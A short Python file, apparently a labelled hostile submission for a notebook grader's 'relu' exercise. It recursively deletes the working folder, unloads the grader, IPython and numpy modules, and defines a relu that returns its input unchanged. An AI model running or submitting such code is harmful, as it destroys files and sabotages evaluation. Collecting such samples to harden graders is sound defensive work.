# Deletes what the learner's process needs to go on: its modules, names and folder.
# ruff: noqa
# loses: others
# %% relu
import shutil
import sys

shutil.rmtree(".", ignore_errors=True)
for name in [name for name in sys.modules if name.startswith(("grader", "IPython", "numpy"))]:
    del sys.modules[name]


def relu(z):
    return z
